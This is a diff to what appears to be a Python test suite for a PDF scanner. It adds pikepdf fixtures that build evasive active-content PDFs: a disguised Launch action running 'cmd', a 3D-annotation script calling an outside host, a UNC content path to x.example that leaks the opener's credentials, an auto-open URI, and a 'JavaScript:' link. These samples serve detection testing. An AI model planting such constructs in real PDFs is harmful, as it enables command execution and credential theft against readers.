@@ -72,6 +72,34 @@ def form(pdf: pikepdf.Pdf) -> None:
     pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(b"<xdp/>"))
 
 
+def in_disguise(pdf: pikepdf.Pdf) -> None:
+    """The kind of the action stands in an object of its own."""
+    kind = pdf.make_indirect(Name.Launch)
+    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 1, 1], A=Dictionary(S=kind, F="cmd"))
+    pdf.pages[0].Annots = Array([link])
+
+
+def in_three_dimensions(pdf: pikepdf.Pdf) -> None:
+    scene = pdf.make_stream(b"U3D\0", Type=Name("/3D"), Subtype=Name.U3D)
+    scene.OnInstantiate = pdf.make_stream(b"host.app.launchURL('http://x.example')")
+    look = {"/3DD": scene}
+    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=[0, 0, 9, 9], **look)])
+
+
+def elsewhere(pdf: pikepdf.Pdf) -> None:
+    """Its content is on somebody's server, which learns who opens it, and with which password."""
+    pdf.pages[0].Contents = pdf.make_stream(b"", F=Dictionary(Type=Name.Filespec, F="\\\\x.example\\y"))
+
+
+def in_a_place(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = Array([Dictionary(S=Name.URI, URI="https://x.example")])
+
+
+def script_link(pdf: pikepdf.Pdf) -> None:
+    link = Dictionary(S=Name.URI, URI=" JavaScript:alert(1)")
+    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 1, 1], A=link)])
+
+
 def nested(pdf: pikepdf.Pdf) -> None:
     deep = Dictionary(JS="x")
     for _ in range(80):
@@ -88,6 +116,11 @@ def nested(pdf: pikepdf.Pdf) -> None:
         (launches, "acts"),
         (chained, "acts"),
         (form, "acts"),
+        (in_disguise, "acts"),
+        (in_three_dimensions, "acts"),
+        (elsewhere, "acts"),
+        (in_a_place, "acts"),
+        (script_link, "acts"),
         (nested, "too_deep"),
     ],
 )
